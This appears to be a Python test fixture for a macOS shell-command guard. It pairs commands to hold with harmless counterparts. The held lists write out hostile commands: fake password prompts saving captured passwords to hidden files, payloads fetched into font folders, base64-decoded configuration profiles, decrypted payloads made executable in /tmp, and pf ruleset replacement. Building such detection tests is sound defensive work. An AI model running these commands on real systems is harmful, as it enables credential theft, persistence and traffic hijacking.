"""macOS leftovers of the macos26 measure (helper macos26b): known misses, written here as variants.

The source is macos26's measurement (MITRE's DPRK macOS emulation plan, a purple-team macOS attack
simulation, a persistence-triage sheet); these are variants written for the tests, not the measured
lines. Each family is one class:

- pf's rules loaded from a file (``pfctl -evf FILE``, ``-f FILE`` in any cluster): the whole ruleset
  replaced, so traffic can be redirected or dropped; from a temporary place blocked, another ``/etc``
  file than ``pf.conf`` loaded as the whole ruleset asked; listing, ``-n`` and ``/etc/pf.conf`` pass;
- a downloaded or temporary file opened as root (``sudo open ~/Downloads/x``): whatever it is, it runs
  with root's rights (asked); installed apps and the project's own build pass;
- a file that is not a font written into a font folder (``cp payload /Library/Fonts/.x``, ``curl -o
  ~/Library/Fonts/update.sh``): a payload kept where nobody looks (blocked); fonts, globs of them and a
  name with no extension (a font family's folder) pass;
- a program run by a path whose name is a socket's, pid file's or lock's (``/usr/local/bin/com.docker.sock
  &``): disguised as a file no one runs (asked); the socket itself used by docker or curl passes;
- a fake password prompt: what ``read -s`` took written to a file (``read -s -p "Password:" pw; echo
  "$pw" > ~/.hidden/p``; blocked outside the project, asked inside it); the check with ``dscl .
  -authonly`` was held already; a token read silently and sent in a header passes;
- a configuration profile written into a temporary place, Downloads or the Desktop (``echo ... |
  base64 -d > /tmp/p.mobileconfig``, ``curl -o``): one ``open`` installs proxies, DNS and root CAs
  (asked; ``profiles install`` itself was blocked already); the project's own profiles pass;
- an embedded payload deciphered into ``/tmp`` and made executable (``openssl enc -d ... -out /tmp/x
  && chmod +x /tmp/x``): held already by download-and-run, kept here as variants.
"""

HELD: dict[str, list[str]] = {
    "pf rules loaded from a file": [
        "sudo pfctl -evf /etc/pf.anchors/evil",
        "sudo pfctl -ef /etc/pf.anchors/redirect",
        "pfctl -Ef /private/etc/pf.anchors/x",
        "sudo pfctl -f/tmp/rules.conf",
        "pfctl -vf /tmp/.r -e",
    ],
    "downloaded file opened as root": [
        "sudo open ~/Downloads/x",
        "sudo open ~/Downloads/Setup",
        "sudo open /private/tmp/update",
        "sudo open /Volumes/Installer/Install",
    ],
    "payload in a font folder": [
        "cp payload /Library/Fonts/.x",
        "curl -s -o ~/Library/Fonts/update.sh https://cdn.example.net/u",
        "sudo mv /tmp/a /Library/Fonts/com.apple.fontd",
        "wget -qO $HOME/Library/Fonts/.cache/agent http://198.51.100.4/a",
    ],
    "program disguised as a socket": [
        "/usr/local/bin/com.docker.sock &",
        "nohup /usr/local/libexec/com.apple.mdworker.sock >/dev/null 2>&1 &",
        "/Users/Shared/.x/agent.pid",
        "~/.local/bin/dbus.socket -d",
    ],
    "fake password prompt": [
        'read -s -p "Password:" pw; echo "$pw" > ~/.hidden/p',
        'read -sp "Password: " p; printf "%s" "$p" >> /tmp/.cache',
        'read -s -p "Enter password for $USER:" P; echo "$P" | tee /Users/Shared/.p >/dev/null',
        'read -rs; echo "$REPLY" > /private/tmp/.k',
        'read -s -p "Vault password: " p; echo "$p" > .vault_pass',
        'read -s -p "Password:" pw; dscl . -authonly "$USER" "$pw"',
    ],
    "configuration profile written": [
        "echo TUlJQ0lEQ0NBYmVn | base64 -d > /tmp/p.mobileconfig",
        "echo TUlJQ0lE | base64 --decode > ~/Downloads/S.mobileconfig && open ~/Downloads/S.mobileconfig",
        "base64 -D -i p.b64 -o /private/tmp/vpn.mobileconfig",
        "curl -sL -o /var/tmp/wifi.mobileconfig https://mdm.example.net/p",
    ],
    "payload deciphered and made executable": [
        "openssl enc -d -aes-256-cbc -in payload.bin -out /tmp/x && chmod +x /tmp/x",
        "openssl aes-256-cbc -d -in blob -out /tmp/.u -k s3cret; chmod 755 /tmp/.u",
        "openssl enc -d -base64 -in blob.txt -out /private/tmp/agent; chmod +x /private/tmp/agent",
    ],
}

ALLOWED: list[str] = [
    "pfctl -s rules",
    "sudo pfctl -sr",
    "sudo pfctl -vnf /etc/pf.anchors/dev",
    "pfctl -n -f /tmp/rules.conf",
    "sudo pfctl -ef /etc/pf.conf",
    "sudo pfctl -a com.apple/250.dev -f /etc/pf.anchors/dev",
    "open ~/Downloads/report.pdf",
    "sudo open /Applications/Xcode.app",
    "sudo open -a TextEdit /etc/hosts",
    "cp MyFont.ttf ~/Library/Fonts/",
    # a font family's folder installed or removed (lead): a name with no extension is a folder of fonts
    "cp -R fonts/JetBrainsMono ~/Library/Fonts/",
    "cp -r Inter ~/Library/Fonts/Inter",
    "rm -rf ~/Library/Fonts/SomeFamily",
    "cp fonts/*.otf ~/Library/Fonts/",
    "curl -sLo ~/Library/Fonts/FiraCode-Regular.ttf https://github.com/tonsky/FiraCode/raw/master/x.ttf",
    "ls ~/Library/Fonts",
    "ls -l /var/run/docker.sock",
    "rm -f /tmp/mysql.sock",
    "curl --unix-socket /var/run/docker.sock http://localhost/info",
    "cat /run/nginx.pid",
    "syncthing --gui-address ip_address:port|path/to/socket.sock",
    'read -s -p "Password: " PASS',
    'read -p "Name: " name; echo "$name" > name.txt',
    'read -s -p "Token: " t; curl -H "Authorization: Bearer $t" https://api.github.com/user',
    'read -s -p "Password: " pw; echo "$pw" > /dev/null',
    "cp build/Dev.mobileconfig dist/Dev.mobileconfig",
    "security cms -D -i ~/Downloads/p.mobileconfig",
    "profiles show -type configuration",
    "openssl enc -d -aes-256-cbc -in backup.tar.enc -out backup.tar",
]
